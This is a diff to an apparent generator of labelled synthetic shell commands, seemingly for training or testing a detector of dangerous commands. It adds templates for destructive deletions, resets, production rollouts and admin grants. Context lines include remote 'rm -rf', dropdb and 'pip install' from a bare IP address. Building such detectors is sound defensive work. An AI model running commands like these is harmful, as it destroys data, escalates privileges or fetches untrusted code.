@@ -49,7 +49,8 @@ WORDS = {
     "word": "delete drop truncate password production deploy secret kill force".split(),
     "unit": "nginx postgresql docker sshd redis-server rabbitmq-server".split(),
     "n": "3 10 25 100".split(),
-    "tool": "acmectl opsd fleetctl shipyard cloudkit infractl dbadmin".split(),
+    "tool": "acmectl opsd fleetctl shipyard cloudkit infractl dbadmin meshctl novactl keepd hubtool orbit stratus gridctl".split(),
+    "thing": "cluster node queue index volume bucket tenant session report schema dataset pipeline".split(),
 }
 
 # label, family, templates. `|||` stands between templates; {slot} is filled from WORDS.
@@ -125,6 +126,16 @@ D tasks ||| make deploy ||| make deploy-{prod} ||| npm run deploy ||| npm run de
 D scripts ||| ./deploy.sh {prod} ||| bash scripts/release.sh ||| ./bin/rollback --env {prod} ||| python scripts/purge.py --env {prod}
 D unlisted programs ||| {tool} destroy {svc} --env {prod} ||| {tool} delete cluster {svc} ||| {tool} deploy {svc} --to {prod} ||| {tool} {svc} purge --all
 D unlisted programs more ||| {tool} terminate --all --yes ||| {tool} promote {svc} --stage {prod} ||| {tool} wipe --force ||| {tool} revoke {svc}-{n}
+D unlisted removals ||| {tool} {thing} delete {svc} ||| {tool} {thing} rm {svc}-{n} --force ||| {tool} drop {thing} {svc} --yes ||| {tool} remove-{thing} --all ||| {tool} evict {thing} --now
+D unlisted resets ||| {tool} reset {thing} --hard ||| {tool} {thing} truncate {svc} ||| {tool} factory-reset ||| {tool} flush {thing} --force ||| {tool} {thing} overwrite {svc}
+D unlisted releases ||| {tool} release {svc} v{n} ||| {tool} publish {thing} ||| {tool} rollout {svc} --percent {n} ||| {tool} push {svc} --live ||| {tool} cutover {svc}
+D unlisted stops ||| {tool} shutdown {svc} --all ||| {tool} {thing} disable {svc} --force ||| {tool} stop-{thing} --all ||| {tool} suspend {svc} --env {prod}
+D unlisted rights ||| {tool} grant admin eve ||| {tool} {thing} set-owner eve --force ||| {tool} user add root-{n} --admin ||| {tool} acl open --all
+S unlisted builds ||| {tool} build {thing} ||| {tool} compile {src} ||| {tool} bundle --watch ||| {tool} generate {thing} ||| {tool} format {src}
+S unlisted checks ||| {tool} lint {src} ||| {tool} check --strict ||| {tool} verify {file} ||| {tool} doctor ||| {tool} bench {thing}
+S unlisted work ||| {tool} new {thing} ||| {tool} serve --port {n} ||| {tool} watch {src} ||| {tool} convert {file} ||| {tool} run {file} ||| {tool} open {svc}
+S unlisted questions ||| {tool} describe {thing} {svc} ||| {tool} show {thing} ||| {tool} search {word} ||| {tool} {thing} list --all ||| {tool} history {svc} --limit {n}
+S unlisted settings ||| {tool} config set color on ||| {tool} login ||| {tool} init --template {svc} ||| {tool} completion bash ||| {tool} cache warm
 D squatted packages ||| pip install {squat} ||| npm install {squat} ||| pip install -i http://198.51.100.7/simple {pkg} ||| pip install git+http://198.51.100.7/{pkg}.git
 D http changes ||| curl -X DELETE https://api.acme.net/v1/{table}/{n} ||| curl -X PUT https://flags.acme.net/{svc} -d on=1 ||| curl -X POST https://ci.acme.net/hooks/deploy
 D nested shells ||| ssh {prodhost} "bash -c 'rm -rf {sysdir}'" ||| sh -c "sh -c 'dropdb {db}'" ||| xargs -I{{}} sh -c 'rm -rf {{}}' < list
